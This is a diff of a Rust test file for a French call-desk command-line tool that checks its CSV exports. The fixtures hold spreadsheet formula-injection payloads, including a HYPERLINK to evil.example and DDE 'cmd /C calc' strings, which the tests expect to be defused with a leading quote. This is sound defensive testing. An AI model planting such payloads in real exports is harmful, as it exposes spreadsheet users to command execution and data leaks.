@@ -4,55 +4,23 @@
 //! times in Paris beside UTC, statuses and outcomes in French beside their slugs, durations
 //! in seconds.
 
-use rusqlite::params;
-use std::collections::HashMap;
-use std::path::PathBuf;
-use std::process::Command;
+#[macro_use]
+#[path = "common/desk.rs"]
+mod desk;
 
-struct Desk {
-    dir: tempfile::TempDir,
+use desk::{Desk, Engine};
+use std::collections::HashMap;
+
+/// A desk whose login name (the default operator) is dupontje.
+fn new_desk(engine: Engine) -> Desk {
+    Desk::on(engine).with_user("dupontje")
 }
 
-impl Desk {
-    fn new() -> Desk {
-        Desk {
-            dir: tempfile::tempdir().unwrap(),
-        }
-    }
-
-    fn db(&self) -> PathBuf {
-        self.dir.path().join("desk.db")
-    }
-
-    fn bytes(&self, args: &[&str]) -> Vec<u8> {
-        let out = Command::new(env!("CARGO_BIN_EXE_guichet"))
-            .current_dir(self.dir.path())
-            .env_clear()
-            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
-            .env("HOME", self.dir.path())
-            .env("XDG_DATA_HOME", self.dir.path().join("data"))
-            .env("XDG_CONFIG_HOME", self.dir.path().join("config"))
-            .env("USER", "dupontje")
-            .env("GUICHET_DB", self.db())
-            .args(args)
-            .output()
-            .unwrap();
-        assert!(
-            out.status.success(),
-            "{args:?} failed: {}",
-            String::from_utf8_lossy(&out.stderr)
-        );
-        out.stdout
-    }
-
-    fn add(&self, extra: &[&str]) -> String {
-        let mut args = vec!["call", "add", "--service", "mi", "--device", "noemi"];
-        args.extend_from_slice(extra);
-        String::from_utf8(self.bytes(&args))
-            .unwrap()
-            .trim()
-            .to_string()
-    }
+/// `call add` on the service mi, the device noemi, with `extra`; returns the reference.
+fn add(desk: &Desk, extra: &[&str]) -> String {
+    let mut args = vec!["call", "add", "--service", "mi", "--device", "noemi"];
+    args.extend_from_slice(extra);
+    desk.ok(&args).trim().to_string()
 }
 
 /// A CSV read back: the header, then each row as column name → cell.
@@ -110,64 +78,69 @@ fn read(bytes: &[u8], separator: u8, bom: bool) -> Sheet {
 
 /// Three calls: one closed after 41 s in winter, one open in summer, one escalated; their
 /// fields hold what a spreadsheet would run.
-fn desk_with_calls() -> Desk {
-    let desk = Desk::new();
-    let a1 = desk.add(&[
-        "--caller",
-        "Zoé Martin",
-        "--phone",
-        "06 12 34 56 78",
-        "--email",
-        "zoe.martin@interieur.gouv.fr",
-        "--summary",
-        "=HYPERLINK(\"http://evil.example/?x\",\"clic\")",
-        "--at",
-        "2026-12-01T14:05",
-    ]);
+fn desk_with_calls(engine: Engine) -> Desk {
+    let desk = new_desk(engine);
+    let a1 = add(
+        &desk,
+        &[
+            "--caller",
+            "Zoé Martin",
+            "--phone",
+            "06 12 34 56 78",
+            "--email",
+            "zoe.martin@interieur.gouv.fr",
+            "--summary",
+            "=HYPERLINK(\"http://evil.example/?x\",\"clic\")",
+            "--at",
+            "2026-12-01T14:05",
+        ],
+    );
     assert_eq!(a1, "A-0001");
     desk.bytes(&["call", "close", "A-0001", "--outcome", "resolved"]);
-    desk.add(&[
-        "--caller",
-        "Bruno Lefèvre",
-        "--phone",
-        "+33 6 12 34 56 78",
-        "--summary",
-        "+1+cmd|' /C calc'!A0",
-        "--at",
-        "2026-07-01T14:00",
-    ]);
-    desk.add(&[
-        "--caller",
-        "@SUM(1+1)",
-        "--phone",
-        "+44 20 7946 0958",
-        // clap reads a lone "-2+3" as an option.
-        "--summary=-2+3",
-        "--at",
-        "2026-12-01T15:00",
-    ]);
+    add(
+        &desk,
+        &[
+            "--caller",
+            "Bruno Lefèvre",
+            "--phone",
+            "+33 6 12 34 56 78",
+            "--summary",
+            "+1+cmd|' /C calc'!A0",
+            "--at",
+            "2026-07-01T14:00",
+        ],
+    );
+    add(
+        &desk,
+        &[
+            "--caller",
+            "@SUM(1+1)",
+            "--phone",
+            "+44 20 7946 0958",
+            // clap reads a lone "-2+3" as an option.
+            "--summary=-2+3",
+            "--at",
+            "2026-12-01T15:00",
+        ],
+    );
     desk.bytes(&["call", "close", "A-0003", "--outcome", "escalated"]);
     // The first call lasted 41 s; the third 20 min 5 s.
-    let conn = rusqlite::Connection::open(desk.db()).unwrap();
     let opened = 1_796_130_300_i64; // 2026-12-01T13:05:00Z, 14:05 in Paris
-    conn.execute(
+    desk.sql(
         "UPDATE calls SET opened_at = ?1, closed_at = ?2 WHERE id = 1",
-        params![opened, opened + 41],
-    )
-    .unwrap();
-    conn.execute(
+        sql_args![opened, opened + 41],
+    );
+    desk.sql(
         "UPDATE calls SET closed_at = opened_at + 1205 WHERE id = 3",
-        [],
-    )
-    .unwrap();
+        &[],
+    );
     // A row an older version or another tool wrote: a tab and a CR first.
-    conn.execute(
+    desk.sql(
         "INSERT INTO calls (opened_at, operator, caller_name, caller_phone, service, device, \
          summary, status, search_key, handler) \
-         VALUES (?1, 'dupontje', '\r=1+1', '0140072000', 'mi', 'noemi', '\t=1+1', 'open', 'x', 'dupontje')",
-        params![opened + 600],
-    )
-    .unwrap();
+         VALUES (?1, 'dupontje', ?2, '0140072000', 'mi', 'noemi', ?3, 'open', 'x', 'dupontje')",
+        sql_args![opened + 600, "\r=1+1", "\t=1+1"],
+    );
     desk
 }
 
@@ -235,9 +208,9 @@ fn check_calls(sheet: &Sheet, decimal: &str) {
     assert_eq!(a4["caller_phone"], "01 40 07 20 00");
 }
 
-#[test]
-fn call_list_reads_right_in_a_french_spreadsheet() {
-    let desk = desk_with_calls();
+on_both_engines! {
+fn call_list_reads_right_in_a_french_spreadsheet(engine: Engine) {
+    let desk = desk_with_calls(engine);
     let list = &["call", "list", "--format", "csv"];
     check_calls(&read(&desk.bytes(list), b',', false), ".");
     let mut french = list.to_vec();
@@ -247,10 +220,11 @@ fn call_list_reads_right_in_a_french_spreadsheet() {
     tabs.extend(["--separator", "tab"]);
     check_calls(&read(&desk.bytes(&tabs), b'\t', false), ".");
 }
+}
 
-#[test]
-fn the_handover_csv_is_the_same_call_csv() {
-    let desk = desk_with_calls();
+on_both_engines! {
+fn the_handover_csv_is_the_same_call_csv(engine: Engine) {
+    let desk = desk_with_calls(engine);
     let args = [
         "report",
         "handover",
@@ -284,10 +258,11 @@ fn the_handover_csv_is_the_same_call_csv() {
     assert_eq!(handover.rows[0]["reference"], "A-0002");
     assert_eq!(list.rows[0]["reference"], "A-0003");
 }
+}
 
-#[test]
-fn call_add_in_csv_is_one_row_of_the_same_columns() {
-    let desk = Desk::new();
+on_both_engines! {
+fn call_add_in_csv_is_one_row_of_the_same_columns(engine: Engine) {
+    let desk = new_desk(engine);
     let bytes = desk.bytes(&[
         "call",
         "add",
@@ -315,10 +290,11 @@ fn call_add_in_csv_is_one_row_of_the_same_columns() {
     assert_eq!(row["summary"], "'=1+1");
     assert_eq!(row["status_label"], "ouvert");
 }
+}
 
-#[test]
-fn call_show_in_csv_is_the_journal_with_paris_times_and_labels() {
-    let desk = desk_with_calls();
+on_both_engines! {
+fn call_show_in_csv_is_the_journal_with_paris_times_and_labels(engine: Engine) {
+    let desk = desk_with_calls(engine);
     desk.bytes(&["call", "note", "A-0001", "=cmd|' /C calc'!A0"]);
     for (extra, sep, bom) in [
         (&[][..], b',', false),
@@ -355,10 +331,11 @@ fn call_show_in_csv_is_the_journal_with_paris_times_and_labels() {
         assert_eq!(note["text"], "'=cmd|' /C calc'!A0");
     }
 }
+}
 
 #[test]
 fn the_other_csvs_share_the_writer() {
-    let desk = Desk::new();
+    let desk = new_desk(Engine::Sqlite);
     for (args, sep, bom) in [
         (&["procedures", "list", "--format", "csv"][..], b',', false),
         (
